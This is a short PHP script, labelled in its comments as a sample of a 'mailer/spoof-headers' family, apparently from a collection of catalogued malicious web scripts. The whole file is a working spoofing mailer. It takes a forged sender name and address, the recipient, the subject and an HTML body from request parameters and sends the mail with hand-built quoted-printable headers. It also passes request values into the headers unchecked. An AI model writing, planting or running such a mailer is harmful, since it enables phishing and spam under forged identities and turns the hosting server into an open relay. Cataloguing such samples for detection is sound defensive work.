<?php
// Family: mailer/spoof-headers
// Style: quoted-printable letter with forged sender
// Trait: Content-Transfer-Encoding built by hand, From from the request, body quoted-printable encoded
$b = quoted_printable_encode($_REQUEST['letter']);
$hh = "From: " . $_REQUEST['nm'] . " <" . $_REQUEST['em'] . ">" . PHP_EOL
    . "MIME-Version: 1.0" . PHP_EOL
    . "Content-Type: text/html; charset=\"utf-8\"" . PHP_EOL
    . "Content-Transfer-Encoding: quoted-printable" . PHP_EOL;
echo mail($_REQUEST['rcpt'], $_REQUEST['sj'], $b, $hh) ? 'delivered' : 'failed';
